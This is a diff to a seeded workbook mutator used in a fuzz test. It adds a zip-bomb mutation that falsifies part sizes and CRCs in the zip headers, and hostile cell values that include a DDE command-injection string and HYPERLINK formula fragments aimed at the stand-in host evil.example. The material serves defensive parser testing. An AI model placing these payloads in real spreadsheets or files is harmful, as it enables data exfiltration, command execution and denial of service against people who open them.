@@ -1,6 +1,8 @@
 """A seeded mutator of workbooks for the fuzz test: byte flips, XML damage, parts
-deleted, duplicated or emptied, hostile cell values and defined names. Each mutant is
-made from one good package by one random mutation; the seed makes a failure repeatable."""
+deleted, duplicated or emptied, parts unpacking past their declared size, hostile cell
+values (decimal commas, invisible characters, formula-looking text) and defined names.
+Each mutant is made from one good package by one random mutation; the seed makes a
+failure repeatable."""
 
 from __future__ import annotations
 
@@ -9,6 +11,7 @@ import re
 import struct
 import warnings
 import zipfile
+import zlib
 from pathlib import Path
 
 HOSTILE_TEXT = [
@@ -16,8 +19,14 @@ HOSTILE_TEXT = [
     "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\x0b\x00\x1f", "\ufffe", "ใช่\r\nไม่ใช่",
     "<script>alert(1)</script>", "&amp;&lt;", "A" * 40_000, "", " ", "๔", "๑๒๓.๕", "1e308",
     "-1e308", "nan", "inf", "#N/A", "TRUE", "'", "\u202e", "x" * 32,
+    # decimal commas and other separators people type; invisible characters and SARA AM
+    # typed as two characters in ids, names and answers; text that looks like a formula
+    "5,0", "1,2", "12,34", "1_0", "1,234", "1,234.5", "๕,๐", "D01\u200b", "\u200bใช่",
+    "ใช่\u2060", "\ufeffD01", "กระทรวงส\u0e4d\u0e32รวจ", "น\u0e4d\u0e48\u0e32", "~$D01",
+    '=HYPERLINK("http://evil.example/?"&"', '","Click for details")', "\ufeff=1+1",
 ]
-HOSTILE_NUMBERS = ["1e308", "-0", "NaN", "INF", "1E+400", "0x10", "", "1.5.5", "٣"]
+HOSTILE_NUMBERS = ["1e308", "-0", "NaN", "INF", "1E+400", "0x10", "", "1.5.5", "٣", "5,0", "1_0",
+                   "1,234"]
 NAME_TEXTS = ["'Framework'!$D:$D", "OFFSET('Framework'!$A$14,0,0,4,3)", "#REF!",
               "'Framework'!$B$2:$C$3", "'Nope'!$A$1", "", "Framework!A1", "1+1",
               "'Framework'!$A$1048576", "'Framework'!$XFD$1"]
@@ -93,12 +102,28 @@ def _defined_name(rng: random.Random, data: bytes) -> bytes:
     return (text[:m.start(2)] + value + text[m.end(2):]).encode()
 
 
+def _lie_about_size(target: Path, part: str, original: bytes) -> None:
+    """Patch the local and central headers of `part` to claim `original`'s size and CRC
+    while its data unpacks to more (a zip bomb that passes size limits read from headers)."""
+    data = bytearray(target.read_bytes())
+    info = zipfile.ZipFile(target).getinfo(part)
+    crc = zlib.crc32(original)
+    struct.pack_into("<I", data, info.header_offset + 14, crc)
+    struct.pack_into("<I", data, info.header_offset + 22, len(original))
+    central = data.find(b"PK\x01\x02")
+    while data[central + 46:central + 46 + len(part.encode())] != part.encode():
+        central = data.find(b"PK\x01\x02", central + 4)
+    struct.pack_into("<I", data, central + 16, crc)
+    struct.pack_into("<I", data, central + 24, len(original))
+    target.write_bytes(bytes(data))
+
+
 def mutate(source: Path, target: Path, seed: int) -> str:
     """Write one mutant of `source` to `target`; returns what was done (for messages)."""
     rng = random.Random(seed)
     items = _parts(source)
     kind = rng.choice(["flip", "flip", "xml", "xml", "xml", "cell", "cell", "cell", "name",
-                       "delete", "duplicate", "empty", "zip64ish"])
+                       "delete", "duplicate", "empty", "zip64ish", "sizelie"])
     if kind == "flip":                                   # bits flipped in the raw file
         data = bytearray(source.read_bytes())
         for _ in range(rng.randrange(1, 4)):
@@ -118,6 +143,13 @@ def mutate(source: Path, target: Path, seed: int) -> str:
     xml_parts = [n for n in names if n.endswith((".xml", ".rels"))]
     sheets = [n for n in names if n.startswith("xl/worksheets/sheet")]
     out = [(info.filename, data) for info, data in items]
+    if kind == "sizelie":                                # more bytes than the headers say
+        part = rng.choice(xml_parts)
+        original = dict(out)[part]
+        tail = b" " * rng.choice([1, 4096, 3 * 1024 ** 2])
+        _write(target, [(n, d + tail if n == part else d) for n, d in out])
+        _lie_about_size(target, part, original)
+        return f"{kind} {part}"
     if kind == "delete":
         gone = rng.choice(names)
         out = [(n, d) for n, d in out if n != gone]
